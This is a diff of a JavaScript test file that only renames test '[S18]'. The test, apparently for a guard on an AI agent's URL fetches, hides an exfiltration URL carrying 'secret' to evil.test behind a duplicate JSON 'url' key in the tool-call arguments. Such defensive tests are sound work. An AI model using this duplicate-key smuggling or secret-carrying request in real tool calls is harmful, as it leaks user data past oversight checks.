@@ -48,7 +48,7 @@ test.each([
   );
 });
 
-test('[S18] of two addresses in one call the one that is fetched is judged', async () => {
+test('[S18] judges the fetched address of two in one call', async () => {
   const evil = 'https://evil.test/?q=secret';
   const judged = { ...fetchOf(evil), args: `{"url":"https://docs.test/guide","url":"${evil}"}` };
   const [asked] = await withComposedUrls([judged], hostWith(conversation));
